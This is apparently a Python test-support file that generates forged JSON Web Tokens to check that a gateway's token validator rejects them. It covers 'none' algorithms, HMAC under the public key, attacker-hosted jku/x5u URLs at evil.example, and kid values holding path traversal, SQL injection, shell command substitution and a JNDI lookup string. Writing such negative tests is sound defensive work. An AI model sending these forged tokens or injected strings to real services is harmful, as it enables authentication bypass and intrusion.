"""Attacks by a token's header: its algorithm, the keys it brings or names, and what else it says.

Sources: RFC 8725 (JWT best practices), RFC 9068 (access tokens), RFC 7515 (JWS), RFC 8032 (Ed25519), and the attacks that
PortSwigger, OWASP and the catalogue of `jwt_tool` list.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import jwt
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.unit.gateway.token_making import Attack, Jwk, claims, encoded, header_of, private_of, token_of


def algorithms(ours: Jwk, _own: Jwk) -> Iterator[Attack]:
    body = encoded(json.dumps(claims()).encode())
    for name in (
        "none",
        "None",
        "NONE",
        "nOnE",
        " none",
        "none ",
        "none\0",
        "n\u043ene",
        "",
        "HS256",
        "eddsa",
        "EDDSA",
    ):
        head = encoded(json.dumps(header_of(ours, alg=name)).encode())
        yield f"alg {name!r} without a signature", f"{head}.{body}."
        yield f"alg {name!r} with a signature of zeros", f"{head}.{body}.{encoded(bytes(64))}"
        yield f"alg {name!r} with our signature", token_of(ours, header_of(ours, alg=name), claims())
    for value in (None, 1, True, ["EdDSA"], {"EdDSA": 1}):
        yield f"alg {value!r}", token_of(ours, header_of(ours, alg=value), claims())
    for name in ("Ed25519", "Ed448", "RS256", "PS256", "ES256", "ES256K", "ES384", "RS512", "A128KW"):
        yield f"alg {name} with our signature", token_of(ours, header_of(ours, alg=name), claims())
    public = private_of(ours).public_key()
    secrets = {
        "the public key's bytes": public.public_bytes_raw(),
        "the public key in PEM": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "the public key in DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "the public key's x": ours["x"].encode(),
        "the public JWK": json.dumps({"kty": "OKP", "crv": "Ed25519", "x": ours["x"]}).encode(),
        "an empty secret": b"",
        "the kid": ours["kid"].encode(),
    }
    for what, secret in secrets.items():
        for name in ("HS256", "HS384", "HS512"):
            yield f"{name} with {what} as the secret", _hmac(ours, secret, name)
    yield "alg EdDSA with an HMAC under the public key", _hmac(ours, public.public_bytes_raw(), "HS256", named="EdDSA")


def brought_keys(ours: Jwk, own: Jwk) -> Iterator[Attack]:
    public = {name: own[name] for name in ("kty", "crv", "x")}
    brought: list[dict[str, Any]] = [
        {"jwk": public},
        {"jwk": {"kid": ours["kid"]} | public},
        {"jwk": own | {"kid": ours["kid"]}},
        {"jku": "https://evil.example/.well-known/jwks.json"},
        {"jku": "https://athena-budget.dev@evil.example/jwks.json"},
        {"jku": "http://127.0.0.1:1/jwks.json"},
        {"jku": "file:///etc/passwd"},
        {"x5u": "https://evil.example/cert.pem"},
        {"x5c": ["MIIB"]},
        {"x5c": []},
        {"x5t": "AAAA"},
        {"x5t#S256": "AAAA"},
    ]
    for extra in brought:
        yield f"header {extra!r:.100}, signed by the attacker", token_of(own, header_of(ours, **extra), claims())
        yield f"header {extra!r:.100}, signed by us", token_of(ours, header_of(ours, **extra), claims())


def kids(ours: Jwk, own: Jwk) -> Iterator[Attack]:
    odd: list[Any] = [
        None, "", " ", "unknown", "../../../../dev/null", "/dev/null", "../../proc/sys/kernel/randomize_va_space",
        "..\\..\\windows\\win.ini", "' UNION SELECT 'key' -- ", "' OR '1'='1", "x'; DROP TABLE identity.sessions; --",
        "|/usr/bin/id", "$(id)", "`id`", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%00", "\0", f"{ours['kid']}\0",
        f"{ours['kid']} ", f" {ours['kid']}", f"{ours['kid']}\n", ours["kid"].upper() + "X", ours["kid"][:-1],
        ours["kid"] + "/../" + ours["kid"], "a" * 2000, "\ud800", "__proto__", "0", 0, 1, -1, 1.5, True, False,
        [ours["kid"]], {"kid": ours["kid"]}, [], {}, "https://evil.example/key", "*",
    ]  # fmt: skip
    for kid in odd:
        yield f"kid {kid!r:.40}, signed by the attacker", token_of(own, header_of(ours, kid=kid), claims())
        yield f"kid {kid!r:.40}, signed by us", token_of(ours, header_of(ours, kid=kid), claims())
    yield "our kid, signed by the attacker", token_of(own, header_of(ours), claims())


def headers(ours: Jwk, _own: Jwk) -> Iterator[Attack]:
    changes: list[dict[str, Any]] = [
        {"crit": ["exp"]}, {"crit": ["b64"]}, {"crit": []}, {"crit": "exp"}, {"crit": [1]}, {"crit": True},
        {"crit": ["alg"]}, {"crit": ["x"], "x": 1}, {"crit": {}}, {"crit": 0}, {"crit": False},
        {"b64": False}, {"b64": False, "crit": ["b64"]}, {"b64": True}, {"b64": "false"},
        {"zip": "DEF"}, {"enc": "A256GCM"}, {"cty": "JWT"}, {"p2c": 2**31}, {"epk": {}}, {"x": 1}, {"": 1},
        {"iss": "https://evil.example"}, {"typ": None}, {"typ": "JWT"}, {"typ": "jwt"}, {"typ": "JOSE"}, {"typ": ""},
        {"typ": "dpop+jwt"}, {"typ": "rt+jwt"}, {"typ": "id+jwt"}, {"typ": "logout+jwt"}, {"typ": "at+jwt "},
        {"typ": "at +jwt"}, {"typ": "at+jwt\0"}, {"typ": "application/jwt"}, {"typ": "text/at+jwt"},
        {"typ": "application/at+jwt;charset=utf-8"}, {"typ": 1}, {"typ": True}, {"typ": ["at+jwt"]},
    ]  # fmt: skip
    for change in changes:
        yield f"header {change!r:.50}", token_of(ours, header_of(ours, **change), claims())
    kid = json.dumps(ours["kid"])
    texts = {
        "alg twice": f'{{"alg":"none","alg":"EdDSA","typ":"at+jwt","kid":{kid}}}',
        "alg twice, ours first": f'{{"alg":"EdDSA","alg":"none","typ":"at+jwt","kid":{kid}}}',
        "alg twice, the same": f'{{"alg":"EdDSA","alg":"EdDSA","typ":"at+jwt","kid":{kid}}}',
        "kid twice": f'{{"alg":"EdDSA","typ":"at+jwt","kid":"x","kid":{kid}}}',
        "typ twice": f'{{"alg":"EdDSA","typ":"JWT","typ":"at+jwt","kid":{kid}}}',
        "kid twice, once escaped": f'{{"alg":"EdDSA","typ":"at+jwt","k\\u0069d":"x","kid":{kid}}}',
        "not an object": '["EdDSA"]', "a text": '"EdDSA"', "null": "null", "a number": "1", "nothing": "", "blank": " ",
        "no JSON": "{alg:EdDSA}", "cut short": '{"alg":"EdDSA"', "a comment": f'{{"alg":"EdDSA"/**/,"typ":"at+jwt","kid":{kid}}}',
        "a comma too many": f'{{"alg":"EdDSA","typ":"at+jwt","kid":{kid},}}',
        "something behind it": f'{{"alg":"EdDSA","typ":"at+jwt","kid":{kid}}}x',
        "two objects": f'{{"alg":"EdDSA","typ":"at+jwt","kid":{kid}}}{{}}',
        "a byte order mark": f'\ufeff{{"alg":"EdDSA","typ":"at+jwt","kid":{kid}}}',
        "NaN": f'{{"alg":"EdDSA","typ":"at+jwt","kid":{kid},"x":NaN}}',
        "deep lists": "[" * 1200 + "]" * 1200, "deep, never closed": "[" * 2900, "deep objects": '{"a":' * 550 + "1" + "}" * 550,
        "a huge number": '{"alg":' + "9" * 2500 + "}",
    }  # fmt: skip
    for what, text in texts.items():
        yield f"header: {what}", token_of(ours, text, claims())
    yield "header in UTF-16", token_of(ours, json.dumps(header_of(ours)).encode("utf-16"), claims())
    yield "header not UTF-8", token_of(ours, b'{"alg":"EdDSA","typ":"at+jwt","kid":"\xff"}', claims())


def _hmac(ours: Jwk, secret: bytes, algorithm: str, named: str | None = None) -> str:
    signer = jwt.algorithms.HMACAlgorithm(getattr(jwt.algorithms.HMACAlgorithm, f"SHA{algorithm[2:]}"))
    head = encoded(json.dumps(header_of(ours, alg=named or algorithm)).encode())
    content = f"{head}.{encoded(json.dumps(claims()).encode())}"
    return f"{content}.{encoded(signer.sign(content.encode(), secret))}"
